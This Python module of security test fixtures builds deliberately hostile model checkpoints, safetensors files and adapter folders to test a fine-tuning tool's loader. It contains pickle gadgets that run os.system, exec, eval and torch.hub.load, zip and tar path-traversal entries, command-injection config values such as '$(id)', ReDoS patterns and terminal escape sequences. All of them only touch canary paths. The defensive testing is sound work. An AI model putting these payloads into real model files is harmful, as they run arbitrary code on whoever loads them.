"""Hostile `.pth` files, safetensors files and adapter folders."""

from __future__ import annotations

import builtins
import io
import json
import os
import pickle
import runpy
import shutil
import subprocess
import tarfile
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np
import torch
from hostile import CANARY, SECRET, World, artefact

ESCAPES = "\x1b]0;owned\x07\x1b[2J\x1b[31mred\x9b31m"


class Calls:
    """An object that pickle makes by calling a function."""

    def __init__(self, function: Any, *arguments: Any) -> None:
        self.call = (function, arguments)

    def __reduce__(self) -> tuple[Any, ...]:
        return self.call


def shell(world: World) -> str:
    return f"mkdir {world.canary}/by_shell"


def python(world: World, name: str = "by_python") -> str:
    return f"import os\n{CANARY} = 1\nos.mkdir({str(world.canary / name)!r})\n"


# ---------------------------------------------------------------- .pth, .bin, .pt


def pth(name: str, payload: Callable[[World], Any], fast: bool = False) -> None:
    """An XTuner .pth with one object too many, in the optimizer's state."""

    def make(world: World, folder: Path) -> Path:
        weights = {"llm.base_model.model.model.layers.0.self_attn.q_proj.lora_A.default.weight": torch.ones(4, 64)}
        torch.save({"state_dict": weights, "meta": {}, "optimizer": {"x": payload(world)}}, folder / "epoch_1.pth")
        return folder / "epoch_1.pth"

    make.__name__ = name
    artefact("old", fast)(make)


pth("pth_os_system", lambda w: Calls(os.system, shell(w)), fast=True)
pth("pth_mkdir", lambda w: Calls(os.mkdir, str(w.canary / "by_pth")))
pth("pth_popen", lambda w: Calls(subprocess.Popen, ["mkdir", str(w.canary / "by_popen")]))
pth("pth_exec", lambda w: Calls(builtins.exec, python(w)))
pth("pth_eval", lambda w: Calls(builtins.eval, f"__import__('os').mkdir({str(w.canary / 'by_eval')!r})"))
pth("pth_import", lambda w: Calls(builtins.__import__, "medtune_canary"))
pth("pth_getattr", lambda w: Calls(getattr, Calls(builtins.__import__, "os"), "system"))
pth("pth_runpy", lambda w: Calls(runpy._run_code, python(w), {}))
pth("pth_numpy_load", lambda w: Calls(np.load, str(w.canary / "x.npy"), None, True))
pth("pth_numpy_save", lambda w: Calls(np.save, str(w.canary / "x.npy"), [1]))
pth("pth_torch_load", lambda w: Calls(torch.load, str(w.canary / "x.pth"), None, None))
pth("pth_torch_hub", lambda w: Calls(torch.hub.load, "evil/evil", "evil"))
pth("pth_path_write", lambda w: Calls(Path.write_text, Path(w.canary / "x"), "x"))


@artefact("old", fast=True)
def pth_with_mmengine_config_text(world: World, folder: Path) -> Path:
    """mmengine 0.10.7 runs `meta.config` as a Python file when it resumes."""
    meta = {"config": python(world), "cfg": python(world), "iter": 1, "epoch": 1}
    name = "llm.base_model.model.model.layers.0.self_attn.q_proj.lora_{}.default.weight"
    weights = {name.format("A"): torch.ones(64, 64), name.format("B"): torch.ones(64, 64)}
    torch.save({"state_dict": weights, "meta": meta}, folder / "iter_1.pth")
    return folder / "iter_1.pth"


@artefact("old")
def pth_plain_pickle(world: World, folder: Path) -> Path:
    (folder / "x.pth").write_bytes(pickle.dumps({"state_dict": Calls(os.system, shell(world))}))
    return folder / "x.pth"


@artefact("old")
def pth_legacy_format(world: World, folder: Path) -> Path:
    saved = {"state_dict": {"a": torch.ones(2)}, "x": Calls(os.system, shell(world))}
    torch.save(saved, folder / "x.pth", _use_new_zipfile_serialization=False)
    return folder / "x.pth"


@artefact("old")
def pth_newer_pickle_protocol(world: World, folder: Path) -> Path:
    torch.save({"state_dict": Calls(os.system, shell(world))}, folder / "x.pth", pickle_protocol=4)
    return folder / "x.pth"


@artefact("old")
def pth_two_pickles(world: World, folder: Path) -> Path:
    torch.save({"state_dict": {"a": torch.ones(2)}}, folder / "x.pth")
    with zipfile.ZipFile(folder / "x.pth", "a") as archive:
        archive.writestr("x/data.pkl", pickle.dumps(Calls(os.system, shell(world)), protocol=2))
    return folder / "x.pth"


@artefact("old")
def pth_zip_slip(world: World, folder: Path) -> Path:
    torch.save({"state_dict": {"a": torch.ones(2)}}, folder / "x.pth")
    with zipfile.ZipFile(folder / "x.pth", "a") as archive:
        archive.writestr(f"../../{CANARY}/slipped", "x")
    return folder / "x.pth"


@artefact("old")
def pth_tar_slip(world: World, folder: Path) -> Path:
    with tarfile.open(folder / "x.pth", "w") as archive:
        archive.addfile(tarfile.TarInfo(f"../../{CANARY}/slipped"), io.BytesIO())
    return folder / "x.pth"


@artefact("old")
def pth_torchscript(world: World, folder: Path) -> Path:
    torch.jit.script(torch.nn.Linear(2, 2)).save(str(folder / "x.pth"))
    return folder / "x.pth"


@artefact("old", fast=True)
def deepspeed_folder(world: World, folder: Path) -> Path:
    states = {"module": {"a": torch.ones(2)}, "optimizer": Calls(os.system, shell(world))}
    torch.save(states, folder / "mp_rank_00_model_states.pt")
    (folder / "zero_to_fp32.py").write_text(python(world))
    return folder


# ---------------------------------------------------------------- safetensors


def lying_weights(name: str, header: Any, fast: bool = False) -> None:
    """An adapter whose weights begin with this header: bytes, or a dict that is written as one."""

    def make(world: World, folder: Path) -> Path:
        target = adapter_copy(world, folder)
        text = header if isinstance(header, bytes) else json.dumps(header).encode()
        raw = text if name.endswith("length") else len(text).to_bytes(8, "little") + text + bytes(16)
        (target / "adapter_model.safetensors").write_bytes(raw)
        return target

    make.__name__ = name
    artefact("adapter", fast)(make)


def entry(shape: list[int], start: int, end: int, dtype: str = "F32") -> dict[str, Any]:
    return {"dtype": dtype, "shape": shape, "data_offsets": [start, end]}


NAME = "base_model.model.model.layers.0.self_attn.q_proj.lora_A.weight"
lying_weights("safetensors_past_the_end", {NAME: entry([1 << 20], 0, 1 << 22)}, fast=True)
lying_weights("safetensors_overlap", {NAME: entry([4], 0, 16), "b": entry([4], 0, 16)})
lying_weights("safetensors_negative_offset", {NAME: entry([4], -16, 0)})
lying_weights("safetensors_negative_shape", {NAME: entry([-2, -2], 0, 16)})
lying_weights("safetensors_shape_overflows", {NAME: entry([1 << 62, 1 << 62], 0, 16)})
lying_weights("safetensors_unknown_type", {NAME: entry([4], 0, 16, "OBJECT")})
lying_weights("safetensors_offsets_of_text", {NAME: {"dtype": "F32", "shape": "4", "data_offsets": "ab"}})
lying_weights("safetensors_a_list", [1, 2, 3])
lying_weights("safetensors_deep_header", b"[" * 200_000)
lying_weights("safetensors_giant_length", (1 << 62).to_bytes(8, "little") + b"{}")
lying_weights("safetensors_all_ones_length", b"\xff" * 8 + b"{}")
lying_weights("safetensors_zero_length", bytes(8))
lying_weights("safetensors_escapes", {ESCAPES: entry([1 << 20], 0, 16)}, fast=True)
lying_weights("safetensors_is_a_pickle", pickle.dumps(Calls(os.mkdir, "/tmp/never")))


# ---------------------------------------------------------------- adapters


def adapter_copy(world: World, folder: Path) -> Path:
    return Path(shutil.copytree(world.adapter, folder / "adapter"))


def adapter_config(name: str, fast: bool = False, **changes: Any) -> None:
    """An adapter with other entries in its adapter_config.json."""

    def make(world: World, folder: Path) -> Path:
        target = adapter_copy(world, folder)
        config = json.loads((target / "adapter_config.json").read_text())
        (target / "adapter_config.json").write_text(json.dumps({**config, **changes}))
        (target / "medtune_canary.py").write_text(python(world))
        return target

    make.__name__ = name
    artefact("adapter", fast)(make)


adapter_config("adapter_auto_mapping", auto_mapping={"base_model_class": "X", "parent_library": "medtune_canary"})
adapter_config("adapter_megatron", fast=True, megatron_config={"x": 1}, megatron_core="medtune_canary")
adapter_config("adapter_unknown_type", peft_type="../../evil")
adapter_config(
    "adapter_prompt_tuning",
    peft_type="PROMPT_TUNING",
    prompt_tuning_init="TEXT",
    prompt_tuning_init_text="x",
    num_virtual_tokens=2,
    tokenizer_name_or_path="evil/tokenizer",
    tokenizer_kwargs={"trust_remote_code": True},
    inference_mode=False,
)
adapter_config("adapter_base_is_a_path", base_model_name_or_path="../../../../etc/passwd", fast=True)
adapter_config("adapter_base_is_an_address", base_model_name_or_path="http://127.0.0.1:9/x", revision="$(id)")
adapter_config("adapter_giant_rank", r=10**12)
adapter_config("adapter_negative_rank", r=-1)
adapter_config("adapter_alpha_of_text", lora_alpha="__import__('os').system('id')")
adapter_config("adapter_slow_pattern", target_modules=r"(([a-z_.0-9]+)+)+!")
adapter_config("adapter_slow_rank_pattern", rank_pattern={r"(([a-z_.0-9]+)+)+!": 4})
adapter_config("adapter_modules_of_numbers", modules_to_save=[1, None, {}])
adapter_config("adapter_layers_without_end", layer_replication=[[0, 10**9]])
adapter_config("adapter_pissa", init_lora_weights="pissa")
adapter_config("adapter_loftq", init_lora_weights="loftq", loftq_config={"loftq_bits": "os.system"})
adapter_config("adapter_unknown_keys", evil=True, custom_imports=["medtune_canary"], _target_="os.system")


@artefact("adapter")
def adapter_deep_config(world: World, folder: Path) -> Path:
    target = adapter_copy(world, folder)
    (target / "adapter_config.json").write_text('{"peft_type": ' * 100_000)
    return target


@artefact("adapter", fast=True)
def adapter_bin_only(world: World, folder: Path) -> Path:
    target = adapter_copy(world, folder)
    (target / "adapter_model.safetensors").unlink()
    torch.save(Calls(os.system, shell(world)), target / "adapter_model.bin")
    return target


@artefact("adapter", fast=True)
def adapter_record_with_escapes(world: World, folder: Path) -> Path:
    target = adapter_copy(world, folder)
    record = {"system": ESCAPES, "prompt_template": ESCAPES, "base_model": {"name_or_path": ESCAPES}, "stage": ESCAPES}
    (target / "medtune.json").write_text(json.dumps(record))
    (target / "README.md").write_text(ESCAPES)
    return target


@artefact("adapter")
def adapter_record_of_wrong_types(world: World, folder: Path) -> Path:
    target = adapter_copy(world, folder)
    (target / "medtune.json").write_text(json.dumps({"system": ["x"], "prompt_template": {}, "base_model": "x"}))
    return target


@artefact("adapter", fast=True)
def adapter_record_deep(world: World, folder: Path) -> Path:
    target = adapter_copy(world, folder)
    (target / "medtune.json").write_text("[" * 100_000)
    return target


@artefact("adapter", fast=True)
def adapter_links_to_a_secret(world: World, folder: Path) -> Path:
    """Publishing a merged model must not publish a file of the user's."""
    target = adapter_copy(world, folder)
    (target / "vocab.txt").symlink_to(world.root / SECRET)
    return target


@artefact("adapter")
def adapter_pipe(world: World, folder: Path) -> Path:
    target = adapter_copy(world, folder)
    (target / "adapter_config.json").unlink()
    os.mkfifo(target / "adapter_config.json")
    return target
